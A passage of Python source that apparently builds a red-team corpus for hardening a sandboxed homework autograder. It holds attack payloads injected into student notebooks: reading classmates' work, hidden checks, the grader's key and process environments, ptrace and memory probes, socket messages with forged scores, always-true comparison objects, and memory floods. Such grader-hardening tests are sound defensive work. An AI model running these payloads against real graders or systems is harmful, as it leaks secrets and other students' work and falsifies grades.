                    _s.sendall(b'{"body": 0, "sig": "0"}\\n' + b'{"score": 73}\\n')
                    _s.close()
                    _reached.append(f"localhost:{_port}")
                except OSError:
                    pass
    except OSError:
        pass
for _path in (glob.glob("/tmp/*") + glob.glob("/run/*.sock")) if _sandboxed else []:
    try:
        _s = socket.socket(socket.AF_UNIX)
        _s.settimeout(1)
        _s.connect(_path)
        _s.sendall(b'{"score": 73}\\n')
        _reached.append(_path)
    except OSError:
        pass
print("reached:", _reached)
''', "connects to the internet, to every listening localhost port and to unix sockets it can find"),
    Attack("read-everything", "leak", "first", '''
import glob, os, zipfile
_found = []
def _take(path, limit=200_000):
    try:
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as zf:
                return "".join(zf.read(n).decode(errors="replace")[:limit] for n in zf.namelist()[:200])
        with open(path, errors="replace") as f:
            return f.read(limit)
    except Exception:  # unreadable, not really a zip, ...
        return ""
_paths = (glob.glob("@SUBS@/*") + glob.glob("@OUT@/**/*", recursive=True) + glob.glob("@OUT@/.key")
          + glob.glob("@REPO@/assignments/hw07/checks/hw07_checks/*.py") + glob.glob("@REPO@/autograder/hw07/*.zip")
          + glob.glob("../*") + glob.glob("../*/*") + glob.glob("tests/*.py") + glob.glob("/autograder/source/**/*")
          + [f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]
          + [f"/proc/{p}/cmdline" for p in os.listdir("/proc") if p.isdigit()])
for _path in _paths:
    _text = _take(_path)
    if _text:
        _found.append(f"== {_path}\\n{_text}")
_leak = "\\n".join(_found)
print(_leak[:5_000_000])
if _leak:
    raise RuntimeError("leaked: " + _leak[:1_000_000])
''', "reads classmates, OUT, the MAC key, hidden checks and other processes' environments; prints and raises them"),
    Attack("leak-in-exception", "leak", "replace", '''
def pointwise_mse(predictions, targets):
    import glob
    text = ""
    for path in glob.glob("@SUBS@/*") + glob.glob("@OUT@/.key") + glob.glob("@REPO@/assignments/hw07/checks/*/*.py"):
        try:
            text += open(path, errors="replace").read(100_000)
        except OSError:
            pass
    raise ValueError("here is what I can read: " + (text or "nothing") + "x" * 100_000)
''', "pointwise_mse raises whatever grader and classmate files it can read, padded to 100 kB"),
    Attack("key-hunt", "leak", "first", '''
import gc, os, re
_hits = [f"{k}={v}" for k, v in os.environ.items() if re.search("KEY|SECRET|TOKEN|HMAC", k, re.I)]
for _obj in gc.get_objects():
    if isinstance(_obj, dict):
        for _k, _v in list(_obj.items())[:50]:
            if isinstance(_v, (bytes, str)) and isinstance(_k, str) and "key" in _k.lower() and 16 <= len(_v) <= 128:
                _hits.append(f"{_k}={_v!r}")
for _path in ["@OUT@/.key", "../.key", "../../.key", "/proc/1/environ"]:
    try:
        _hits.append(open(_path, "rb").read(256).hex())
    except OSError:
        pass
print("key candidates:", _hits[:100])
''', "hunts the MAC key in the environment, on the heap and in OUT"),
    Attack("ptrace-and-proc-mem", "leak", "first", '''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_sandboxed = os.getuid() != @HOSTUID@ and os.getpid() < 1000
for _pid in ([os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()][:200]) if _sandboxed else []:
    if _pid == os.getpid():
        continue
    if _libc.ptrace(0x4206, _pid, 0, 0) == 0:  # PTRACE_SEIZE: attaches without stopping the tracee
        print("attached to", _pid)
        _libc.ptrace(17, _pid, 0, 0)           # PTRACE_DETACH
    try:
        open(f"/proc/{_pid}/mem", "rb").close()
        print("can open the memory of", _pid)
    except OSError:
        pass
''', "tries to ptrace and open the memory of its parent and every visible process"),
    # ------------------------------------------------------------------ return values built to hurt the examiner
    Attack("return-tensor-subclass", "score", "replace", '''
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True


def pointwise_mse(predictions, targets):
    return torch.zeros(()).as_subclass(Agreeable)
''', "pointwise_mse returns a Tensor subclass that agrees with every comparison"),
    Attack("return-proxy", "score", "replace", '''
class Anything:
    shape = torch.Size([2, 3, 5])
    dtype = torch.float32
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __index__(self): return 10 ** 30
    def __len__(self): return 2 ** 62
    def __hash__(self): return 0
    def __iter__(self): return iter([self] * 3)
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __repr__(self): return "Anything" * 1_000_000
    def __reduce__(self): return (open, ("/tmp/cka-@TAG@-unpickled", "w"))
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True


def batched_linear(X, W, b):
    return Anything()
''', "batched_linear returns a proxy whose every dunder lies (and whose pickle writes a host file)"),
    Attack("malicious-numbers", "score", "replace", '''
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 1e308
    def __index__(self): raise RuntimeError("no")
    def __hash__(self): return 0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True


class Letter(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0


Q8_UNMASKED_PPL = Liar(1.0)
Q8_PADDING_DIRECTION = Letter("z")
''', "q8 answers are float and str subclasses whose comparisons always succeed"),
    Attack("enormous-returns", "host", "replace", '''
def batched_linear(X, W, b):
    deep = []
    for _ in range(1_000_000):
        deep = [deep]
    return deep


def pointwise_mse(predictions, targets):
    cyclic = []
    cyclic.append(cyclic)
    return {"loss": cyclic, "many": [0.5] * 50_000_000, "keys": {i: i for i in range(2_000_000)}}


Q8_N_TARGETS = "9" * 50_000_000
''', "returns a million-deep list, a cyclic list, 50 M floats, 2 M dict keys and a 50 MB string"),
    Attack("nan-and-inf", "score", "replace", '''
def pointwise_mse(predictions, targets):
    return torch.tensor(float("nan"))


def surprisal_bits(logits, targets, pad_id=None):
    return torch.full((targets.numel(),), float("inf"))


Q8_UNMASKED_PPL = float("nan")
Q8_ACCUMULATED_LOSS = float("inf")
''', "answers NaN and inf (NaN never equals anything; inf is no loss)"),
    Attack("huge-tensor-returns", "host", "replace", '''
def batched_linear(X, W, b):
    return torch.zeros(()).expand(2 ** 33)        # 32 GiB if anyone copies it; 4 bytes in the sandbox


def surprisal_bits(logits, targets, pad_id=None):
    return torch.empty(300_000_000)              # 1.2 GB of float32
''', "returns a stride-0 view of 2^33 elements and a real 1.2 GB tensor"),
    Attack("custom-backward", "host", "replace", '''
class Sabotage(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x.clone()

    @staticmethod
    def backward(ctx, grad):
        import os
        os._exit(7)


def checkpointed_forward(blocks, x):
    for block in blocks:
        x = checkpoint(block, x, use_reentrant=False)
    return Sabotage.apply(x)
''', "checkpointed_forward's output is right, but its backward (run in the sandbox) kills the process"),
    Attack("mirror-flood", "host", "replace", '''
def evaluate(model, batches, loss_fn):
    for module in model.modules():
        for name, value in list(vars(module).items()):
            if isinstance(value, list):
                setattr(module, name, [(True, True)] * 5_000_000)
        module.flood = ["x" * 1000] * 1_000_000
        module.training = "yes"
    for p in model.parameters():
        p.grad = torch.zeros(()).expand(p.shape).clone() + float("nan")
    return 0.0
''', "evaluate floods the module attributes and gradients the examiner mirrors back"),
]

ATTACK_IDS = [a.id for a in ATTACKS]
BY_ID = {a.id: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS), "duplicate attack ids"

# The representative subset of the default suite: one or more of each class, none that waits for a timeout.
FAST = ["patch-comparisons", "swap-code-everywhere", "steal-via-sys-executable", "channel-garbage",
        "edit-classmates", "kill-batch", "setsid-daemon", "return-proxy", "huge-tensor-returns", "read-everything",
        "write-outside"]
# Attacks on otter's own pass: graded with the otter pass on (its column may move; the grade may not).
OTTER = ["wrap-json-dump", "patch-otter", "gc-steal-reference"]
assert not [a for a in FAST + OTTER if BY_ID[a].slow], "the default suite waits for no timeout"
assert {BY_ID[a].kind for a in FAST} == {a.kind for a in ATTACKS}, "the fast subset covers every class"


def write_corpus(folder: Path, solution_path: Path, ctx: Context, attacks: list[str],
                 classmates: int = 2) -> dict[str, str]:
    """Writes base.ipynb, classmate-N.ipynb and one notebook per attack; returns {file name: role} where
    role is "base", "classmate:<canary>" or the attack id."""
    folder.mkdir(parents=True, exist_ok=True)
    solution = nbformat.read(str(solution_path), as_version=4)
    base = base_notebook(solution)
    roles = {"base.ipynb": "base"}
    nbformat.write(base, str(folder / "base.ipynb"))
    for i in range(classmates):
        canary = f"canary-{ctx.tag}-classmate-{i}"
        nbformat.write(classmate_notebook(solution, f"classmate {i}", canary), str(folder / f"classmate-{i}.ipynb"))
        roles[f"classmate-{i}.ipynb"] = f"classmate:{canary}"
    for attack_id in attacks:
        nbformat.write(attacked(base, BY_ID[attack_id], ctx), str(folder / f"attack-{attack_id}.ipynb"))
        roles[f"attack-{attack_id}.ipynb"] = attack_id
    return roles
